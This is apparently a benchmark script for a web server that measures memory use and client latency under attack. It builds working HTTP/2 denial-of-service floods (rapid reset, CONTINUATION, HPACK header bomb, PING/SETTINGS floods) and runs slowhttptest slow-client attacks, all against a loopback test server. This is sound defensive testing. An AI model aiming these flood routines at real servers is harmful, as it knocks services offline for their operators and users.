#!/usr/bin/env python3
"""What attacks cost: the worker's memory at most, and how long a well-behaved client waits beside them.

    bench/hostile.py [--seconds 10] [--only none,rapid-reset,...] [--nginx]

Slow clients are those of slowhttptest (1,000 connections; left out where it is not installed); floods of HTTP/2 frames
(RFC 9113 section 10.5) come from here, 16 connections as fast as they are taken, each opened anew when it is ended.
Everything stays on loopback. `--nginx` measures nginx beside it, where the program knows `listen ... http2`.
"""

import argparse
import asyncio
import multiprocessing
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

CONNECTIONS = 16
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 1, 3, 4, 6, 8, 9
# GET / of localhost, in HPACK: entries 2, 6 and 4 of its static table, and :authority.
GET = b"\x82\x86\x84\x41\x09localhost"
# The same without a new entry in the dynamic table.
BARE = b"\x82\x86\x84\x01\x09localhost"
SLOW = {
    "slow-head": ["-H", "-i", "5"],
    "slow-body": ["-B", "-i", "5", "-s", "65536"],
    "ranges": ["-R", "-a", "10", "-b", "3000"],
    "slow-read": ["-X", "-w", "512", "-y", "1024", "-n", "5", "-z", "32", "-k", "3"],
}


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


# Floods: what is sent again and again, given a number that counts from 0. The first frame is SETTINGS.


def rapid_reset(number: int) -> bytes:
    stream = 2 * number + 1
    return frame(HEADERS, 5, stream, GET) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def ping(_: int) -> bytes:
    return frame(PING, 0, 0, b"12345678") * 20


def settings(_: int) -> bytes:
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 20


def continuation(number: int) -> bytes:
    if number == 0:
        return frame(HEADERS, 1, 1, GET)
    return frame(CONTINUATION, 0, 1, b"\x40\x01a\x04bbbb" * 1000)


def header_bomb(number: int) -> bytes:
    # A field of 4 kB enters the dynamic table once and is then named by one byte, 12,000 times.
    field = b"\x40\x01a\x7f\x91\x1e" + b"b" * 3984
    return frame(HEADERS, 5, 2 * number + 1, BARE + (b"\xbe" * 12_000 if number else field))


def large_head(number: int) -> bytes:
    # The same, but no more of it than a server may want to answer.
    field = b"\x40\x01a\x7f\x91\x1e" + b"b" * 3984
    return frame(HEADERS, 5, 2 * number + 1, BARE + (b"\xbe" * 40 if number else field))


def malformed(number: int) -> bytes:
    # The authority again and again.
    return frame(HEADERS, 5, 2 * number + 1, GET + b"\xbe" * 12_000)


def closed_windows(number: int) -> bytes:
    if number == 0:
        return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    return frame(HEADERS, 5, 2 * number - 1, GET[:2] + b"\x04\x0a/large.bin" + GET[3:]) if number < 120 else b""


FLOODS: dict[str, Callable[[int], bytes]] = {
    "rapid-reset": rapid_reset, "ping": ping, "settings": settings, "continuation": continuation, "header-bomb": header_bomb,
    "large-head": large_head, "malformed": malformed,
    "closed-windows": closed_windows,
}


def flood(port: int, piece: Callable[[int], bytes], end: float) -> None:
    """Connections of one attacker, one after another in turns."""
    attackers: list[tuple[socket.socket, int]] = []
    while time.monotonic() < end:
        while len(attackers) < CONNECTIONS:
            try:
                new = socket.create_connection(("127.0.0.1", port), 2)
                new.sendall(PREFACE + frame(SETTINGS))
                new.setblocking(False)
                attackers.append((new, 0))
            except OSError:
                break
        kept = []
        idle = True
        for own, number in attackers:
            try:
                data = piece(number)
                idle &= not data
                if own.send(data) < len(data):
                    raise OSError("a frame was cut")  # it could not be gone on with: another connection
                while number % 32 == 31 and own.recv(1 << 16):
                    pass
                kept.append((own, number + 1))
            except BlockingIOError:
                kept.append((own, number + 1))
            except OSError:
                own.close()
        attackers = kept
        if idle:
            time.sleep(0.05)


class Good:
    """A well-behaved client: every 20 ms a request on a connection that stays, and one on a new connection."""

    def __init__(self, port: int, seconds: float) -> None:
        self.port, self.end = port, time.monotonic() + seconds
        self.took: list[float] = []
        self.failed = 0

    async def ask(self, pair: tuple) -> None:
        reader, writer = pair
        writer.write(b"GET /small.txt HTTP/1.1\r\nHost: localhost\r\n\r\n")
        head = await reader.readuntil(b"\r\n\r\n")
        if not head.startswith(b"HTTP/1.1 200"):
            raise OSError(head)
        await reader.readexactly(5000)

    async def client(self, stays: bool) -> None:
        pair = None
        while time.monotonic() < self.end:
            start = time.monotonic()
            try:
                pair = pair or await asyncio.wait_for(asyncio.open_connection("127.0.0.1", self.port), 30)
                await asyncio.wait_for(self.ask(pair), 30)
            except (OSError, EOFError, asyncio.TimeoutError):
                self.failed += 1
                pair = None
            self.took.append(time.monotonic() - start)
            if not stays and pair:
                pair[1].close()
                pair = None
            await asyncio.sleep(0.02)

    async def run(self) -> None:
        await asyncio.gather(self.client(True), self.client(False))


def memory(master: int) -> int:
    """PSS of the workers in kB."""
    children = Path(f"/proc/{master}/task/{master}/children").read_text().split()
    total = 0
    for child in children:
        lines = Path(f"/proc/{child}/smaps_rollup").read_text().splitlines()
        total += next((int(line.split()[1]) for line in lines if line.startswith("Pss:")), 0)
    return total


def configuration(folder: Path, port: int, nginx: bool) -> Path:
    file = folder / "nginx.conf"
    http2 = (" http2", "") if nginx else ("", "http2 on;")
    file.write_text(
        f"worker_processes 1; daemon off; pid {folder}/pid; error_log {folder}/error.log crit; {'user root;' if os.getuid() == 0 else ''}\n"
        "events { worker_connections 4096; }\n"
        f"http {{ access_log off; server {{ listen 127.0.0.1:{port}; root {folder}; }}\n"
        f"  server {{ listen 127.0.0.1:{port + 1}{http2[0]}; {http2[1]} root {folder}; index small.txt; }} }}\n"
    )
    return file


def free_ports() -> int:
    """The first of two ports that nobody has, below those that the attacks' own connections get."""
    for port in range(20_000 + os.getpid() % 5000, 32_000, 2):
        try:
            socket.create_server(("127.0.0.1", port)).close()
            socket.create_server(("127.0.0.1", port + 1)).close()
            return port
        except OSError:
            continue
    raise SystemExit("no two ports are free")


def measure(program: str, name: str, seconds: float, nginx: bool) -> str:
    with tempfile.TemporaryDirectory(prefix="hostile-") as text:
        folder = Path(text)
        (folder / "small.txt").write_bytes(b"x" * 5000)
        (folder / "large.bin").write_bytes(os.urandom(4_000_000))
        port = free_ports()
        server = subprocess.Popen([program, "-p", text, "-c", str(configuration(folder, port, nginx))], stderr=subprocess.DEVNULL)
        attack: multiprocessing.Process | subprocess.Popen | None = None
        try:
            time.sleep(1)
            if name in SLOW:
                url = f"http://127.0.0.1:{port}/large.bin"
                command = ["slowhttptest", *SLOW[name], "-c", "1000", "-r", "400", "-l", str(int(seconds) + 2), "-u", url, "-p", "3"]
                attack = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            elif name in FLOODS:
                end = time.monotonic() + seconds + 1
                attack = multiprocessing.Process(target=flood, args=(port + 1, FLOODS[name], end))
                attack.start()
            time.sleep(1)
            good, most = Good(port, seconds), 0

            async def watch() -> None:
                nonlocal most
                while time.monotonic() < good.end:
                    most = max(most, memory(server.pid))
                    await asyncio.sleep(0.3)

            async def both() -> None:
                await asyncio.gather(good.run(), watch())

            asyncio.run(both())
            if server.poll() is not None:
                return "the server has ended"
        finally:
            if isinstance(attack, multiprocessing.Process):
                attack.kill()
            elif attack:
                attack.send_signal(signal.SIGKILL)
            server.terminate()
            server.wait(30)
    took = sorted(good.took)
    at = lambda part: took[min(len(took) - 1, int(len(took) * part))] * 1000
    return f"{most / 1024:7.1f} MB {at(0.5):9.1f} {at(0.99):9.1f} {took[-1] * 1000:9.1f} {good.failed:5d} of {len(took)}"


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    names = ["none", *SLOW, *FLOODS]
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--only", type=lambda text: text.split(","), default=names, help=", ".join(names))
    parser.add_argument("--nginx", action="store_true", help="measure nginx, too")
    options = parser.parse_args()
    beside = Path(sys.executable).parent / "daemun"
    programs = {"daemun": os.environ.get("DAEMUN") or (str(beside) if beside.exists() else "daemun")}
    if options.nginx:
        programs["nginx"] = os.environ.get("NGINX_BIN", "nginx")
    print(f"{'attack':<16}{'server':<8}{'memory':>10}{'p50 ms':>10}{'p99 ms':>10}{'worst':>10}   failed")
    for name in options.only:
        if name in SLOW and not shutil.which("slowhttptest"):
            print(f"{name:<16}slowhttptest is missing (apt-get install slowhttptest)")
            continue
        for server, program in programs.items():
            print(f"{name:<16}{server:<8}{measure(program, name, options.seconds, server == 'nginx')}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
